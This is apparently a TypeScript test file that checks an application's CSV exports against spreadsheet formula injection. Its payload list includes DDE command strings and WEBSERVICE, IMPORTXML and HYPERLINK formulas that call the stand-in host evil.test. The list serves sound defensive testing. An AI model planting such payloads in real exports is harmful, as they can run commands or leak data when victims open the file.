import { endpointNames, type EndpointName } from '@prelaunch/contract/endpoints';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { plantLine, plantRefund } from '../testing/statements.ts';
import { startTestServer, type TestServer } from '../testing/test-server.ts';
import { fresh, makeRoom } from './call-parts.ts';
import {
  expectDone,
  makeAttackFixture,
  newSession,
  upload,
  type AttackFixture,
} from './attack-fixture.ts';

/** Texts that a spreadsheet would run as formulas. The test writes each into every exported field. */

const PAYLOADS: readonly string[] = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.test","Click")',
  '=IMPORTXML("http://evil.test","//a")',
  '=WEBSERVICE("http://evil.test")',
  '=DDE("cmd";"/c calc";"a")',
  '+1+1',
  '+cmd|calc',
  '-1+1',
  '-2+3+cmd|calc',
  '@SUM(1+1)',
  '@=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=1+1,",\'"',
  '"=1+1',
  '==1+1',
  '=\u200b1+1',
  '|calc',
];
const RUNS = /^[=+\-@\t\r\0＝＋－＠]/;

let server: TestServer;
let fixture: AttackFixture;

beforeAll(async () => {
  server = await startTestServer();
  fixture = await makeAttackFixture(server);
});
afterAll(() => server.stop());

/** The cells of a CSV file, parsed as a spreadsheet does it. */
function cellsOf(csv: string): string[] {
  const cells = csv
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n|$)/gy);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

/** Whether names accept the payload: with an invisible character they refuse it. */
const isTaken = (payload: string): boolean => !/[\p{Cc}\p{Cf}]/u.test(payload);

/** Exports of days and figures only. */
const WITHOUT_TEXTS: readonly EndpointName[] = ['exportTrends', 'exportAllTrends'];

/** Who exports it. */
const kindOf = (name: EndpointName) =>
  name === 'exportReferrals' ? 'member' : name.includes('All') ? 'superadmin' : 'admin';

/** Writes the payload into every field; some fields refuse it. */
async function plant(payload: string): Promise<void> {
  const { people } = fixture;
  const [member, admin] = [
    await newSession(fixture, people, 'member'),
    await newSession(fixture, people, 'admin'),
  ];
  const call = async (name: EndpointName, token: string, body: unknown) => {
    const answer = await server.call(name, { token, body });
    expect([200, 201, 400]).toContain(answer.status);
    if (name !== 'submitPurchase' && isTaken(payload)) expectDone(answer);
    return answer;
  };
  await makeRoom(fixture, people);
  const bought = await call('submitPurchase', member, {
    paymentMethod: 'BANK',
    amount: 1000,
    referenceNumber: payload,
    receiptId: await upload(server, member, 'proof'),
    bankName: payload,
  });
  if (bought.status === 201) {
    await call('rejectPurchase', admin, { id: bought.body.data.id, reason: payload });
    const id = await plantRefund(server, people.companyId, bought.body.data.id);
    const account = { kind: 'BANK', accountNumber: '12345678901', ifscCode: 'SBIN0000813' };
    await call('giveRefundAccount', member, { id, holderName: payload, ...account });
  }
  await call('addAccount', admin, {
    role: 'USER',
    name: payload,
    password: 'a long enough password',
    ...fresh(),
  });
  await server.pool.query(
    'update accounts set referrer_id = $2 where company_id = $1 and name = $3 and id <> $2',
    [people.companyId, people.member.id, payload],
  );
  const lineId = await plantLine(server, people.companyId, { narration: payload });
  await call('registerRefund', admin, { lineId, amount: 1, reason: payload });
  const payee = { holderName: payload, bankName: payload, branch: payload };
  const numbers = { accountNumber: '12345678901', ifscCode: 'SBIN0000813', upi: 'a.b@okaxis' };
  await call('updateBeneficiary', admin, { ...payee, ...numbers });
  const company = { id: people.companyId, companyName: payload, companyAddress: payload };
  const staff = await newSession(fixture, people, 'superadmin');
  await call('updateCompany', staff, company);
}

test('a spreadsheet runs no cell of any export', async () => {
  for (const payload of PAYLOADS) await plant(payload);
  const exports = endpointNames.filter((name) => name.startsWith('export'));
  expect(exports.length).toBeGreaterThanOrEqual(6);
  for (const name of exports) {
    const kind = kindOf(name);
    const token = await newSession(fixture, fixture.people, kind);
    const { status, body, headers } = await server.call(name, { token });
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(/^attachment;/);
    const cells = cellsOf(String(body));
    expect([name, cells.filter((cell) => RUNS.test(cell))]).toEqual([name, []]);
    // The export contains the payload.
    const hasPayload = cells.some((cell) => /1\+1|calc/.test(cell));
    expect([name, hasPayload]).toEqual([name, !WITHOUT_TEXTS.includes(name)]);
  }
});
